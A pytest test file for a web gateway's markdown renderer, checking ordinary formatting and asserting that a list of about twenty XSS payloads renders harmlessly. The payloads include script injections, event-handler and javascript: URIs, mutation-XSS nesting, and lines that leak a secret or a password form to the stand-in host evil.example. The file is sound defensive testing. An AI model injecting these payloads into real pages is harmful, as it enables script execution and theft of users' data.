from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from mycelos.gateway.web import markdown
from mycelos.gateway.web.markdown import render_markdown


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and `code`", "<p><strong>bold</strong> and <code>code</code></p>"),
        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
        ("```\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
        ("| a |\n|---|\n| b |", "<td>b</td>"),
        (
            "[words](https://example.org/x)",
            '<a href="https://example.org/x" rel="noopener noreferrer nofollow">words</a>',
        ),
    ],
)
def test_plain_markdown_is_shown(text: str, html: str) -> None:
    assert html in render_markdown(text)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "![x](https://evil.example/?leak=secret)",
    "[![x](https://evil.example/a.png)](https://example.org)",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>`",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x]: javascript:alert(1)\n\n[x]",
]


class Seen(HTMLParser):
    """The tags and links that a browser would make of a text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links += [value or "" for name, value in attrs if name != "rel"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_loads_and_runs_nothing(text: str) -> None:
    seen = Seen(render_markdown(text))
    assert seen.tags <= {"p", "a", "pre", "code"}
    assert [link for link in seen.links if not link.startswith(("https://evil.example/", "https://example.org"))] == []


@pytest.mark.parametrize("wall", ["parser", "cleaner"])
def test_each_wall_holds_without_the_other(wall: str, monkeypatch: pytest.MonkeyPatch) -> None:
    if wall == "parser":
        monkeypatch.setattr(markdown.nh3, "clean", lambda html, **_: html)
    else:
        monkeypatch.setattr(markdown, "_PARSER", MarkdownIt("commonmark", {"html": True}))
    assert "<script" not in render_markdown("<script>alert(1)</script>")


def test_without_both_walls_the_script_is_in_the_page(monkeypatch: pytest.MonkeyPatch) -> None:
    """Takes the walls away and sees the attack succeed."""
    monkeypatch.setattr(markdown.nh3, "clean", lambda html, **_: html)
    monkeypatch.setattr(markdown, "_PARSER", MarkdownIt("commonmark", {"html": True}))
    assert "<script>" in render_markdown("<script>alert(1)</script>")


def test_a_very_deep_text_is_shown() -> None:
    assert render_markdown("> " * 5000 + "deep")
    assert render_markdown("*" * 20_000)
